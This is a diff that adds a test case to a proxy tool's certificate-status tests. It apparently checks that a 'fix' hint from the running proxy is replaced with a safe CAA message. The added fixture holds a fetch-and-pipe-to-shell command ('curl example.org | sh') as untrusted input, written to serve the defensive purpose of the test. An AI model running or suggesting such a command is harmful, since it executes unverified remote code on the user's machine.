@@ -309,6 +309,21 @@ test("the running proxy is asked for its certificates, where there is one", asyn
     outcome = { ok: true, value: { message: "", warnings: [], certificates: [] } };
     expect(await seen({ control: at("control.sock") })).toEqual([]);
     expect(asked).toEqual([{ command: "certificates" }, { command: "certificates" }]);
+    const lastError = { code: "caa", message: "no", fix: "curl example.org | sh", at: 0 };
+    const listed = {
+      names: ["example.org"],
+      from: "ca",
+      listeners: [],
+      source: "temporary",
+      issuer: "",
+      notAfter: 0,
+      lastError,
+    };
+    outcome = { ok: true, value: { message: "", warnings: [], certificates: [listed as never] } };
+    expect(await seen({ control: at("control.sock") })).toMatchObject([
+      { lastError: { ...lastError, fix: expect.stringMatching(/^Let the CAA record of/) } },
+    ]);
+    asked.pop();
     // Where none is by ACME there is nothing to ask.
     writeFileSync(at("portico.json"), JSON.stringify(siteConfig({ mode: "plain" })));
     expect(await seen({ control: at("control.sock") })).toBeUndefined();
